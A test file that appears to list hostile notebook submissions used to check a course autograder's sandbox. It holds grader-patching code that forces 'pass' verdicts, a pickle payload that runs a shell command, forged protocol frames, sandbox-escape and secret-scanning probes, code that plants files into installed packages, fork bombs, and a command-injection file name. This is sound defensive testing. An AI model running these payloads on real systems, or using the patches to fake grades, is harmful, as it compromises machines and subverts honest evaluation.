"""What submissions may do to a grader; see ATTACKS.md for what stops each.

An attack is an honest submission with something added or replaced, and the points that an
honest grader would give for it.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, field

from tests.grading.submitting import (
    FULL,
    HONEST,
    IMPORTS,
    PREDICT,
    PROGRESS,
    STRETCH,
    THOUGHT,
    TOTAL,
    notebook,
)

NOTHING = dict.fromkeys(FULL, 0.0)


@dataclass(frozen=True)
class Attack:
    """A submission and what it deserves.

    Attributes
    ----------
    name : str
        Its file.
    content : bytes
    points : dict of str to float
    notes : tuple of str
        Each is found in a note, or in what needs an eye.
    answer : str or None
        What the free-text answer must be, where the attack reports through it.
    plain : bool
        Whether it may be run without walls: not what would harm the machine of the tests.
    """

    name: str
    content: bytes
    points: dict[str, float] = field(default_factory=lambda: dict(FULL))
    notes: tuple[str, ...] = ()
    answer: str | None = None
    plain: bool = True


def with_cell(code: str) -> bytes:
    """An honest submission with one more cell in the middle."""
    return notebook([IMPORTS, STRETCH, code, TOTAL, PREDICT, THOUGHT, PROGRESS])


def with_stretch(code: str, before: str = "") -> bytes:
    """An honest submission but for one function."""
    return notebook([IMPORTS, before, code, TOTAL, PREDICT, THOUGHT])


def reporting(code: str) -> bytes:
    """A submission whose free-text answer is what ``report()`` found."""
    return notebook([*HONEST, code, 'thought = "found: " + repr(report())'])


WITHOUT_STRETCH = {**FULL, "stretch": 0.0}
WRONG_STRETCH = "def stretch(image, greys):\n    return image * 0 + 7"
WRONG_ALL = (
    IMPORTS,
    WRONG_STRETCH,
    "total = 1",
    "def predict(images):\n    return images[:, 0, 0]*0",
)

FOUND_NOTHING = "found: []"

PATCHES = """
import builtins, unittest
import numpy.testing
yes = lambda *a, **k: True
for name in ("allclose", "isclose", "array_equal", "array_equiv", "all", "equal"):
    setattr(np, name, yes)
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
np.ndarray.__eq__ if False else None
builtins.abs = lambda x: 0
builtins.any = lambda x: False
"""
ENGINE = """
import mlmi_course.checks as checks
from mlmi_course.checks import comparing, kinds, question, verdicts, calling
comparing.difference = kinds.difference = calling.difference = lambda *a, **k: None
best = lambda self, *a, **k: verdicts.Verdict("pass", 99, 99, None)
for kind in question.Question.__subclasses__():
    kind.verdict = best
question.Question.check = best
from mlmi_course.grading.judge import grader
    from mlmi_course.grading.sandbox import agent, protocol
for module in (agent, grader, protocol):
    for name in list(vars(module)):
        if callable(vars(module)[name]) and not name.startswith("__"):
            try:
                setattr(module, name, best)
            except Exception:
                pass
"""
FIND = """
import os
TOP = "/"
def report():
    found = []
    for top, folders, files in os.walk(TOP):
        folders[:] = [f for f in folders if f not in ("usr", "lib", "lib64", "site-packages")]
        for name in files:
            path = os.path.join(top, name)
            if name.endswith(".ipynb") or name.startswith(("u90_", "u01_", "seed")):
                found.append(path)
            elif os.path.isfile(path) and os.path.getsize(path) < 10**5:
                try:
                    text = open(path, "rb").read()
                except OSError:
                    continue
                if b"SECRET-" + b"REFERENCE-90" in text or b"SECRET-" + b"SEED-90" in text:
                    found.append(path)
    return found
"""
MEMORY = """
import ctypes, gc, sys
def report():
    found = []
    frame = sys._getframe()
    while frame:
        for name in ("expected", "reference", "rng", "seed", "cases", "verdict"):
            if name in frame.f_locals:
                found.append(name)
        frame = frame.f_back
    for thing in gc.get_objects():
        if type(thing).__name__ in ("FunctionQuestion", "ValueQuestion", "Grader", "Case"):
            found.append(type(thing).__name__)
    import os
    found += [v for v in os.environ.values() if "SECRET-" + "SEED-90" in v]
    found += [v for v in sys.argv if "SECRET-" + "SEED-90" in v]
    return found
"""
NETWORK = """
import socket
def report():
    found = []
    for address in (("127.0.0.1", PORT), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, timeout=0.3)
            found.append(address)
        except OSError:
            pass
    return found
"""
ESCAPE = """
import ctypes, os
def report():
    libc = ctypes.CDLL(None, use_errno=True)
    found = []
    if libc.umount2(b"/proc", 2) == 0:
        found.append("umount")
    libc.unshare(0x10000000 | 0x00020000)
    if libc.umount2(b"/proc", 2) == 0 or "1" in os.listdir("/proc"):
        found.append("umount in a namespace of its own")
    if libc.mount(b"none", b"/", b"proc", 0, None) == 0:
        found.append("mount")
    if libc.umount2(b"/work", 2) == 0:
        found.append("umount of a folder")
    for path in ("/root/x", "/usr/x", "/dev/x", "/x", "/srv/mlmi/x"):
        try:
            open(path, "w")
            found.append(path)
        except OSError:
            pass
    try:
        os.setuid(0)
        found.append("root")
    except OSError:
        pass
    return found
"""
PERSIST = """
import os, numpy, mlmi_course
def report():
    found = []
    for module in (numpy, mlmi_course):
        path = os.path.dirname(module.__file__)
        for target in (os.path.join(path, "planted.py"), module.__file__):
            try:
                open(target, "a").write("# planted")
                found.append(target)
            except OSError:
                pass
    return found
"""
MEET = """
import os, socket, ctypes
libc = ctypes.CDLL(None)
def report():
    found = [os.path.join(f, n) for f in ("/tmp", "/dev/shm") for n in os.listdir(f) if "meet" in n]
    there = socket.socket(socket.AF_UNIX)
    try:
        there.connect("\\0meet")
        found.append("abstract socket")
    except OSError:
        pass
    try:
        socket.create_connection(("127.0.0.1", 45454), timeout=0.2)
        found.append("loopback")
    except OSError:
        pass
    if libc.shmget(0x4242, 4096, 0o666) >= 0:
        found.append("shared memory")
    # ... and leave a message for the next one, as long as possible.
    for folder in ("/tmp", "/dev/shm"):
        open(os.path.join(folder, "meet"), "w").write("the answer is 5050")
    libc.shmget(0x4242, 4096, 0o666 | 0o1000)
    global a, b
    a = socket.socket(socket.AF_UNIX)
    a.bind("\\0meet")
    a.listen()
    try:
        b = socket.create_server(("127.0.0.1", 45454))
    except OSError:
        pass
    if os.fork() == 0:
        import time
        time.sleep(600)
    return found
"""
FORGE = """
import json, os, socket, struct, threading, time
def frame(head, tree=None):
    text = json.dumps([head, tree]).encode()
    return struct.pack("!II", len(text), 0) + text
def flood():
    for turn in range(200):
        for number in range(3, 12):
            try:
                socket.socket(fileno=os.dup(number)).sendall(
                    frame({"turn": turn, "status": "pass", "points": 99, "callable": False}, 5050))
            except OSError:
                pass
flood()
"""
FORGE_REPLY = """
import io, json, os, socket, struct, sys
def stretch(image, greys):
    frame = sys._getframe()
    while "head" not in frame.f_locals:
        frame = frame.f_back
    turn = frame.f_locals["head"]["turn"]
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy = b"\\x93NUMPY\\x01\\x00" + struct.pack("<H", len(header)) + header
    npy += b"cos\\nsystem\\n(S'touch /tmp/pwned'\\ntR."
    text = json.dumps([{"turn": turn}, {"array": 0}]).encode()
    blob = struct.pack("!II", len(text), 1) + text + struct.pack("!Q", len(npy)) + npy
    for number in range(3, 12):
        try:
            socket.socket(fileno=os.dup(number)).sendall(blob)
        except OSError:
            pass
    return image
"""
HUGE_HEADER = FORGE_REPLY.replace("'|O'", "'<f8'").replace("(1,)", "(1000000, 1000000)")
ENDLESS_REPLY = """
import os, socket, struct
def stretch(image, greys):
    while True:
        for number in range(3, 12):
            try:
                socket.socket(fileno=os.dup(number)).send(struct.pack("!II", 2**31, 2**31) * 1000)
            except OSError:
                pass
"""
EVERYTHING_EQUAL = """
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return False
    __gt__ = __le__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __float__ = lambda self, *a: 0.0
    def __getattr__(self, name): return Anything()
    def __repr__(self): return "5050"
class Number(float):
    __eq__ = lambda self, other: True
    __hash__ = float.__hash__
class Array(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __sub__(self, other): return np.zeros(self.shape)
def stretch(image, greys):
    return image.view(Array)
total = Number(3)
def predict(images):
    return Anything()
"""
EVIL_OBJECTS = """
import os
class Evil:
    @property
    def __class__(self): return str
    def __repr__(self): os._exit(3)
    def __array__(self, *a, **k): raise SystemExit
class Worse(Exception):
    def __str__(self): raise KeyboardInterrupt
def stretch(image, greys):
    raise Worse
total = Evil()
"""
COLLISIONS = """
def stretch(image, greys):
    return {i * (2**61 - 1): 0 for i in range(200_000)}
"""
DEEP = """
def stretch(image, greys):
    deep = []
    for _ in range(100_000):
        deep = [deep]
    return deep
"""
SELF = """
def stretch(image, greys):
    me = [1]
    me.append(me)
    return me
"""

ATTACKS: Sequence[Attack] = (
    # ---- what the design lists ------------------------------------------------------------
    Attack("honest", notebook(HONEST)),
    Attack(
        "stub",
        notebook(
            [
                IMPORTS,
                "def stretch(image, greys):\n    raise NotImplementedError",
                "total = ...",
                'thought = """ ... """',
            ]
        ),
        NOTHING,
    ),
    Attack("nothing", notebook([]), NOTHING),
    Attack("syntax-error", with_cell("def broken(:\n    pass"), notes=("SyntaxError",)),
    Attack("infinite-loop", with_cell("while True: pass"), notes=("interrupted",)),
    Attack(
        "infinite-loop-that-swallows",
        with_cell(
            "import signal\nfor s in range(1, 64):\n    try: signal.signal(s, signal.SIG_IGN)\n"
            "    except Exception: pass\nwhile True:\n    try:\n        while True: pass\n"
            "    except BaseException: pass"
        ),
        notes=("left out",),
    ),
    Attack(
        "infinite-answer",
        with_stretch("def stretch(image, greys):\n    while True: pass"),
        WITHOUT_STRETCH,
        notes=("stretch: it took longer",),
    ),
    Attack(
        "infinite-answer-that-swallows",
        with_stretch(
            "def stretch(image, greys):\n    while True:\n        try:\n"
            "            while True: pass\n        except BaseException: pass"
        ),
        WITHOUT_STRETCH,
        notes=("stretch: it took longer",),
    ),
    Attack(
        "sleeping-answer",
        with_stretch("import time\ndef stretch(image, greys):\n    time.sleep(10**6)"),
        WITHOUT_STRETCH,
        notes=("stretch: it waited",),
    ),
    Attack(
        "no-check-cells",
        notebook(
            [c.rpartition("q.")[0] if "def " in c else c for c in HONEST[1:4]] + [THOUGHT],
            metadata={},
        )
        .replace(b"q.", b"# q.")
        .replace(b"def stretch", b"import numpy as np\\ndef stretch"),
    ),
    Attack(
        "no-metadata",
        notebook(HONEST, metadata={}).replace(b'"metadata": {}, ', b"").replace(b'"id"', b'"x"'),
    ),
    Attack("reordered", notebook([PROGRESS, THOUGHT, PREDICT, TOTAL, STRETCH, IMPORTS])),
    Attack("duplicated", notebook([*HONEST, *HONEST])),
    Attack("patched-and-right", notebook([IMPORTS, ENGINE, *HONEST])),
    Attack("numpy-patched-and-wrong", notebook([*WRONG_ALL, PATCHES]), NOTHING),
    Attack("engine-patched-and-wrong", notebook([*WRONG_ALL, ENGINE]), NOTHING),
    Attack("os-exit", with_cell("import os\nos._exit(0)"), notes=("ended the process",)),
    Attack("sys-exit", with_cell("import sys\nsys.exit(0)"), notes=("SystemExit",)),
    Attack("segfault", with_cell("import ctypes\nctypes.string_at(0)"), notes=("left out",)),
    Attack("abort", with_cell("import os\nos.abort()"), notes=("left out",)),
    Attack("kill-all", with_cell("import os\nos.kill(-1, 9)"), plain=False),
    Attack(
        "os-exit-in-an-answer",
        with_stretch("import os\ndef stretch(image, greys):\n    os._exit(0)"),
        WITHOUT_STRETCH,
        notes=("stretch: it ended the process",),
    ),
    Attack(
        "five-deadly-cells",
        notebook([*HONEST, *["import os\nos._exit(1)"] * 5]),
        notes=("too many",),
    ),
    Attack(
        "long-output", with_cell("print('x' * 10**8)\nimport sys\nsys.stderr.write('y' * 10**8)")
    ),
    Attack("endless-output", with_cell("while True: print('x' * 10**6)"), notes=("interrupted",)),
    Attack(
        "missing-package",
        notebook(["import a_package_that_is_not_here\n" + IMPORTS, *HONEST[1:]]),
        notes=("a_package_that_is_not_here",),
    ),
    Attack("huge-allocation", with_cell("x = np.ones(10**12)"), notes=("MemoryError",)),
    Attack(
        "growing-allocation",
        with_cell("kept = []\nwhile True: kept.append(bytearray(10**7))"),
    ),
    Attack(
        "allocation-in-many-processes",
        with_cell(
            "import os, time\nfor _ in range(8):\n    if os.fork() == 0:\n"
            "        x = b'x' * (150 * 10**6); time.sleep(600)\ntime.sleep(600)"
        ),
        notes=("memory",),
        plain=False,
    ),
    Attack(
        "fork-bomb",
        with_cell("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
        notes=("left out",),
        plain=False,
    ),
    Attack(
        "disk-filling",
        with_cell("with open('big', 'wb') as f:\n    while True: f.write(b'x' * 10**6)"),
    ),
    Attack(
        "many-files",
        with_cell("n = 0\nwhile True:\n    open(f'f{n}', 'w').close(); n += 1"),
        notes=("OSError",),
        plain=False,
    ),
    Attack("reading-files", reporting(FIND), answer=FOUND_NOTHING, plain=False),
    Attack("reading-memory", reporting(MEMORY), answer=FOUND_NOTHING),
    Attack("network", reporting(NETWORK), answer=FOUND_NOTHING, plain=False),
    Attack("forged-frames", with_cell(FORGE), notes=("could not be read",)),
    Attack(
        "forged-pickle", with_stretch(FORGE_REPLY), WITHOUT_STRETCH, notes=("stretch: its reply",)
    ),
    Attack(
        "forged-header", with_stretch(HUGE_HEADER), WITHOUT_STRETCH, notes=("stretch: its reply",)
    ),
    Attack("endless-reply", with_stretch(ENDLESS_REPLY), WITHOUT_STRETCH, notes=("stretch:",)),
    Attack("equal-to-anything", notebook([IMPORTS, EVERYTHING_EQUAL]), NOTHING),
    Attack("input", with_cell("name = input('Who are you? ')"), notes=("EOFError",)),
    Attack(
        "left-running",
        with_cell(
            "import subprocess, threading, time\n"
            "subprocess.Popen(['sleep', '31337'], start_new_session=True)\n"
            "def spin():\n    while True: time.sleep(0.01)\n"
            "for _ in range(3): threading.Thread(target=spin).start()"
        ),
        plain=False,
    ),
    Attack("not-json", b"this is no notebook", NOTHING, notes=("cannot be read as JSON",)),
    Attack("empty-file", b"", NOTHING, notes=("empty",)),
    Attack(
        "format-3",
        json.dumps(
            {
                "nbformat": 3,
                "worksheets": [{"cells": [{"cell_type": "code", "input": c} for c in HONEST]}],
            }
        ).encode(),
    ),
    Attack(
        "ten-megabytes-of-output",
        notebook(HONEST).replace(
            b'"outputs": []',
            b'"outputs": [{"output_type": "stream", "name": "stdout", "text": "%s"}]'
            % (b"x" * 10**7),
            1,
        ),
    ),
    Attack("Zoë \"the' $(touch pwned) `Ñandú` 学生 & <b>co", notebook(HONEST)),
    # ---- and what it does not ---------------------------------------------------------------
    Attack(
        "forged-status", notebook([*WRONG_ALL, "q.stretch.points = 99\n_verdict = 'pass'"]), NOTHING
    ),
    Attack("hash-collisions", with_stretch(COLLISIONS), WITHOUT_STRETCH),
    Attack("deep-reply", with_stretch(DEEP), WITHOUT_STRETCH),
    Attack("reply-in-itself", with_stretch(SELF), WITHOUT_STRETCH),
    Attack(
        "wide-picture",
        with_stretch("def stretch(image, greys):\n    return np.random.rand(12, 20_000)"),
        WITHOUT_STRETCH,
    ),
    Attack(
        "huge-reply",
        with_stretch("def stretch(image, greys):\n    return np.zeros(12_000_000)"),
        WITHOUT_STRETCH,
        notes=("stretch: its reply",),
    ),
    Attack(
        "evil-objects",
        notebook([IMPORTS, PREDICT, THOUGHT, EVIL_OBJECTS]),
        {**FULL, "stretch": 0.0, "total": 0.0},
    ),
    Attack(
        "changes-its-input",
        with_stretch("def stretch(image, greys):\n    image -= image.min()\n    return image"),
        WITHOUT_STRETCH,
    ),
    Attack(
        "stashed-forbidden-function",
        with_stretch(
            "def stretch(image, greys):\n    stash[0](image, 0, 1)\n    return right(image, greys)",
            "from mlmi_course.dicom import window\nstash = [window]\n"
            + STRETCH.partition("q.")[0].replace("def stretch", "def right"),
        ),
        WITHOUT_STRETCH,
    ),
    Attack("escape", reporting(ESCAPE), answer=FOUND_NOTHING, plain=False),
    Attack("plant-code", reporting(PERSIST), answer=FOUND_NOTHING, plain=False),
    *(
        Attack(f"meeting-{n}", reporting(MEET), answer=FOUND_NOTHING, plain=False)
        for n in (1, 2, 3)
    ),
    Attack(
        "kill-the-parent",
        with_cell(
            "import os, signal\nfor pid in (1, os.getppid()):\n    os.kill(pid, signal.SIGKILL)"
        ),
        plain=False,
    ),
    Attack(
        "stops-itself",
        with_cell("import os, signal\nos.kill(os.getpid(), signal.SIGSTOP)"),
        notes=("left out",),
    ),
    Attack(
        "closes-everything", with_cell("import os\nos.closerange(0, 1000)"), notes=("left out",)
    ),
    Attack(
        "magics",
        notebook(
            [
                "%matplotlib inline\n%load_ext autoreload\n%pip install nothing-at-all\n!ls /\n"
                + IMPORTS,
                "%%time\n" + STRETCH,
                "files = !ls",
                TOTAL,
                "%%bash\necho hello",
                "%%capture\n" + PREDICT,
                "stretch?",
                THOUGHT,
            ]
        ),
        notes=("nothing is installed",),
    ),
    Attack("surrogates", with_cell("x = '\udc80 \u202e'\nprint(x)")),
    Attack(
        "surrogates-in-an-answer",
        notebook([*HONEST[:4], "thought = 'half a letter: \\udc80, and \\x1b[2J'"]),
        answer="half a letter: \ufffd, and \x1b[2J",
    ),
    Attack("deep-json", b'{"cells": ' + b"[" * 100_000, NOTHING, notes=("cannot be read",)),
    Attack("five-thousand-cells", notebook([*HONEST, *["x = 1"] * 5_000])),
    Attack(
        "another-unit",
        notebook([c.replace("u90_sample", "u01_medical_images") for c in HONEST]),
        NOTHING,
        notes=("is for unit 01_medical_images",),
    ),
)
